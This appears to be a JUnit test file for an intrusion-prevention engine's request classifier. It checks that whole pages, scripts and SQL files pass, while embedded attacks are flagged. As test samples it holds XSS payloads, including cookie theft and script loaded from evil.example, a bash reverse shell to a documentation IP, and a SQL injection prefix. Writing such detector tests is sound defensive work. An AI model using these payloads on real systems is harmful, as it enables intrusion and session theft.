package ips.core.payload;

import static org.junit.jupiter.api.Assertions.assertEquals;

import ips.core.packet.FrameBuffer;
import ips.core.verdict.Kind;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/** Pages and scripts of many lines, which people post as a whole, and attacks in their midst. */
class ShownTextTest {
    private static final String PAGE =
            """
            <!doctype html>
            <html lang="en">
            <head>
            <meta charset="utf-8">
            <title>My page</title>
            <link rel="stylesheet" href="style.css">
            <script src="/js/jquery.min.js"></script>
            </head>
            <body>
            <h1>It's my page</h1>
            %s
            <script>
              $(function(){ $('#btn').on('click', function(){ $('.menu').toggle(); }); });
            </script>
            </body>
            </html>
            """;

    private static final String COMPONENT =
            """
            <template>
              <p>{{ name }}</p>%s
            </template>
            <script>
            export default { data() { return { name: 'x' } } }
            </script>
            """;

    private static final String SCRIPT =
            """
            #!/bin/bash
            set -euo pipefail
            for f in *.txt; do
              echo "$f"; cat "$f" | grep -v '^#' > "out/${f%.txt}.csv"
            done
            rm -rf /tmp/build && mkdir -p /tmp/build
            """;

    private static final String STATEMENTS =
            """
            BEGIN TRANSACTION;
            INSERT INTO accounts (id, name) VALUES (1, 'O''Neil');
            UPDATE accounts SET name = 'x' WHERE id = 1;
            COMMIT;
            """;

    private static final String PROGRAM =
            """
            function validate(form) {
              if (form.name.value == '' || form.age.value < 18) {
                alert("Please fill in your name");
                return false;
              }
              document.getElementById("msg").innerHTML = "it is ok";
              return true;
            }
            """;

    private static final String TRANSCRIPT =
            """
            $ docker logs web
            Error: ENOENT: no such file, open '/app/.env'
            $ ls -la /app; cat /app/package.json
            """;

    private final RequestJudge judge = new RequestJudge(RequestJudge.Config.DEFAULTS);

    private Kind accused(PartKind part, String value) {
        byte[] bytes = value.getBytes(StandardCharsets.UTF_8);
        judge.begin();
        judge.part(part, new FrameBuffer(bytes), 0, bytes.length);
        return judge.verdict().attack() ? judge.verdict().kind() : null;
    }

    @Test
    void leavesAWholePageWithScriptsOfItsOwnAlone() {
        assertEquals(null, accused(PartKind.FORM, PAGE.formatted("")));
    }

    @Test
    void findsAPageThatLoadsAnotherHostsScript() {
        String loads = "<script src=\"https://evil.example/x.js\"></script>";
        assertEquals(Kind.XSS, accused(PartKind.FORM, PAGE.formatted(loads)));
    }

    @Test
    void findsAnAttackInAWholePage() {
        assertEquals(
                Kind.XSS, accused(PartKind.FORM, PAGE.formatted("<img src=x onerror=alert(1)>")));
        assertEquals(
                Kind.XSS,
                accused(PartKind.FORM, PAGE.formatted("<script>alert(document.cookie)</script>")));
        assertEquals(
                Kind.XSS,
                accused(PartKind.FORM, PAGE.formatted("<iframe src=//evil.example></iframe>")));
    }

    @Test
    void leavesAComponentInOneFileAlone() {
        assertEquals(null, accused(PartKind.JSON, COMPONENT.formatted("")));
        assertEquals(
                Kind.XSS,
                accused(PartKind.JSON, COMPONENT.formatted("<img src=x onerror=alert(1)>")));
    }

    @Test
    void accusesAPageInAQuery() {
        assertEquals(Kind.XSS, accused(PartKind.QUERY, PAGE.formatted("")));
    }

    @Test
    void leavesAScriptOfAShellAlone() {
        assertEquals(null, accused(PartKind.FORM, SCRIPT));
    }

    @Test
    void findsAShellThatTalksToAHostInAScript() {
        assertEquals(
                Kind.RCE,
                accused(PartKind.FORM, SCRIPT + "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1\n"));
    }

    @Test
    void leavesAFileOfSqlAloneInABodyOnly() {
        assertEquals(null, accused(PartKind.FORM, STATEMENTS));
        assertEquals(Kind.SQLI, accused(PartKind.QUERY, STATEMENTS));
    }

    @Test
    void findsStatementsBehindAQuoteOnALineOfTheirOwn() {
        assertEquals(Kind.SQLI, accused(PartKind.FORM, "x';\n" + STATEMENTS));
    }

    @Test
    void leavesAProgramThatTalksToItsUserAlone() {
        assertEquals(null, accused(PartKind.FORM, PROGRAM));
        assertEquals(
                Kind.XSS,
                accused(
                        PartKind.FORM,
                        PROGRAM.replace("it is ok", "<img src=x onerror=alert(1)>")));
    }

    @Test
    void leavesATranscriptOfATerminalAlone() {
        assertEquals(null, accused(PartKind.FORM, TRANSCRIPT));
    }
}
